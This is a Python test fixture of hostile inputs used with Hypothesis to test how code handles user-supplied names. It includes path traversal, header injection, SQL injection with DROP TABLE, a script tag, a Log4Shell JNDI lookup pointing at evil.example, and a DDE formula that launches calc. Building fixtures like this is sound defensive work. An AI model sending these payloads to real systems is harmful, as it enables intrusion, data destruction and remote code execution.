"""Texts that attackers send where a name is expected."""

from collections.abc import Mapping

from hypothesis import strategies as st

TEXTS: Mapping[str, str] = {
    "traversal": "../../etc/passwd",
    "traversal with backslashes": "..\\..\\etc\\passwd",
    "traversal, encoded": "..%2f..%2fsegments",
    "traversal, encoded twice": "%252e%252e%252f",
    "absolute path": "/etc/passwd",
    "two slashes": "//evil.example/x",
    "two dots": "..",
    "NUL": "a\x00b",
    "newline": "a\r\nX-Injected: yes",
    "terminal escape": "\x1b]0;owned\x07\x1b[2J",
    "C1 control": "a\x9b31mb",
    "line separator": "a\u2028b",
    "bidi override": "abc\u202egpj.exe",
    "zero width": "ad\u200bmin",
    "fullwidth": "\uff57\uff45\uff42",
    "decomposed": "cafe\u0301",
    "128 characters of 4 bytes": "\U0001f600" * 128,
    "over 2048 bytes": "\U0001f600" * 513,
    "very long": "x" * 5000,
    "SQL quote": "' OR '1'='1",
    "SQL comment": "x'; DROP TABLE transactions; --",
    "SQL escape": "\\' OR 1=1 --",
    "placeholder": "? ${tag} {0} %s",
    "wildcards": "%_%",
    "query": "a?admin=true&b=#c",
    "JSON": '","scopes":["admin"],"x":"',
    "markup": "<script>alert(1)</script>[red]x[/red]",
    "lookup": "${jndi:ldap://evil.example/x}",
    "null": "null",
    "number": "1e309",
    "many digits": "9" * 400,
    "blank": " ",
    "formula": "=cmd|' /C calc'!A0",
}

SQL = {
    kind: TEXTS[kind]
    for kind in (
        "SQL quote",
        "SQL comment",
        "SQL escape",
        "placeholder",
        "wildcards",
        "NUL",
        "bidi override",
        "newline",
    )
}
"""Those that mean something to a parser of SQL, or upset one."""

texts = st.text(st.characters(codec="utf-8"), min_size=1, max_size=60)
"""Any text that has a UTF-8 form."""
